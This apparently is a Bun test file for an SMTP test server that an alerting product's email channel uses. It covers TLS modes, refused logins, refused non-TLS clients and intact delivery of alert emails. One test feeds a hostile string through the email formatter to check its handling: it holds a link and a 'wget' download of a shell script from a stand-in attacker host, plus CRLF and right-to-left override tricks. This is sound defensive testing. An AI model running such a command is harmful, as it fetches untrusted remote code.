import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import nodemailer from "nodemailer"
import { emailContent } from "../../src/domain/channels/emailText.ts"
import { CTX, hostileMessage } from "../domain/channels/messages.ts"
import { type SmtpMode, type SmtpServer, startSmtpServer } from "../support/smtp.ts"

/**
 * The SMTP test server itself (test/support/smtp.ts): nodemailer, as the email channel uses it, delivers to it over
 * STARTTLS and over implicit TLS with the throwaway CA trusted, and the server records the message parsed by Python's
 * `email` package; a client that skips TLS, or logs in with a wrong password, is refused and sends nothing. An alert
 * email's subject and both parts arrive as emailContent made them.
 */

const USER = "alerts@decoy.example.com"
const PASSWORD = "p@ss:w/rd %41 é"

const send = (server: SmtpServer, options: { password?: string; ignoreTLS?: boolean }, content = plainMail) => {
  const transport = nodemailer.createTransport({
    host: server.host,
    port: server.port,
    secure: server.mode === "implicit",
    requireTLS: server.mode === "starttls" && options.ignoreTLS !== true,
    ignoreTLS: options.ignoreTLS === true,
    auth: { user: USER, pass: options.password ?? PASSWORD },
    tls: { ca: server.ca, minVersion: "TLSv1.2" },
    connectionTimeout: 10_000,
    greetingTimeout: 10_000,
    socketTimeout: 10_000,
  })
  return transport
    .sendMail({
      from: "Decoy alerts <alerts@decoy.example.com>",
      to: "soc@example.org",
      subject: content.subject,
      text: content.text,
      html: content.html,
    })
    .finally(() => transport.close())
}

const plainMail = { subject: "[high] A test subject", text: "Plain part\n", html: "<p>HTML part</p>\n" }

/** Line ends as a parsed part gives them (CRLF on the wire, LF once decoded). */
const lf = (s: string | null): string | null => (s === null ? null : s.replace(/\r\n/g, "\n"))

for (const mode of ["starttls", "implicit"] as ReadonlyArray<SmtpMode>) {
  describe(`SMTP test server, ${mode}`, () => {
    let server: SmtpServer
    beforeAll(async () => {
      server = await startSmtpServer({ mode, user: USER, password: PASSWORD })
    })
    afterAll(async () => {
      await server?.stop()
    })

    test("the URL names the scheme, port and percent-encoded login", () => {
      const url = new URL(server.url)
      expect(url.protocol).toBe(mode === "implicit" ? "smtps:" : "smtp:")
      expect(Number(url.port)).toBe(server.port)
      expect(decodeURIComponent(url.username)).toBe(USER)
      expect(decodeURIComponent(url.password)).toBe(PASSWORD)
    })

    test("a message over TLS with the right login is recorded, parsed as multipart/alternative", async () => {
      const before = (await server.messages()).length
      const info = await send(server, {})
      expect(info.accepted).toEqual(["soc@example.org"])
      const messages = await server.waitFor(before + 1)
      const mail = messages[before]
      if (mail === undefined) throw new Error(`no message recorded: ${server.log()}`)
      expect(mail.tls).toBe(true)
      expect(mail.tlsVersion).toMatch(/^TLSv1\.[23]$/)
      expect(mail.authenticated).toBe(true)
      expect(mail.login).toBe(USER)
      expect(mail.mailFrom).toBe("alerts@decoy.example.com")
      expect(mail.rcptTos).toEqual(["soc@example.org"])
      expect(mail.contentTypes).toEqual(["multipart/alternative", "text/plain", "text/html"])
      expect(mail.subject).toBe(plainMail.subject)
      expect(mail.headers.subject).toBe(plainMail.subject)
      expect(lf(mail.textPart)).toBe(plainMail.text)
      expect(lf(mail.htmlPart)).toBe(plainMail.html)
      expect(mail.data).toContain("\r\n")
    })

    test("a wrong password is refused and nothing is sent", async () => {
      const before = (await server.messages()).length
      const refusedBefore = (await server.refused()).length
      await expect(send(server, { password: "wrong" })).rejects.toMatchObject({ code: "EAUTH" })
      const refused = (await server.refused()).slice(refusedBefore)
      expect(refused.some((r) => r.reply.startsWith("535") && r.tls && r.attemptedLogin === USER)).toBe(true)
      await Bun.sleep(200)
      expect((await server.messages()).length).toBe(before)
    })

    test("an alert email arrives as emailContent made it", async () => {
      const hostile = '<a href="http://evil.example/x">\r\nwget https://evil.example/s.sh \u202Eabc {{x}}'
      const content = emailContent(hostileMessage(hostile), CTX, { channelId: "ch_1", organization: "Acme" })
      const before = (await server.messages()).length
      await send(server, {}, content)
      const mail = (await server.waitFor(before + 1))[before]
      if (mail === undefined) throw new Error(`no message recorded: ${server.log()}`)
      expect(mail.defects).toEqual([])
      expect(mail.subject).toBe(content.subject)
      expect(lf(mail.textPart)).toBe(content.text)
      expect(lf(mail.htmlPart)).toBe(content.html)
      // Every line on the wire within RFC 5322's 998 octets, whatever the parts hold.
      for (const line of mail.data.split("\r\n")) expect(Buffer.byteLength(line, "utf8")).toBeLessThanOrEqual(998)
    })
  })
}

describe("SMTP test server, starttls required", () => {
  let server: SmtpServer
  beforeAll(async () => {
    server = await startSmtpServer({ mode: "starttls", user: USER, password: PASSWORD })
  })
  afterAll(async () => {
    await server?.stop()
  })

  test("a client that does not start TLS is refused before it logs in or sends", async () => {
    await expect(send(server, { ignoreTLS: true })).rejects.toBeDefined()
    const refused = await server.refused()
    expect(refused.length).toBeGreaterThan(0)
    expect(refused.every((r) => !r.tls && !r.authenticated)).toBe(true)
    expect(refused.some((r) => r.reply.startsWith("530"))).toBe(true)
    await Bun.sleep(200)
    expect(await server.messages()).toEqual([])
  })
})
